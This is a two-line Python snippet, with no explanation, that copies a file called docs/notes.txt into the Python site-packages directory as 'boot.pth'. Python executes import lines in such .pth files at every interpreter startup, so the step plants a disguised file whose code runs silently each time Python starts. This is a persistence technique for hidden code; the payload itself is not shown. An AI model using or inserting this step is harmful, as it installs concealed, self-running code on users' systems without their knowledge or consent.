import shutil, site
shutil.copy("docs/notes.txt", site.getsitepackages()[0] + "/boot.pth")
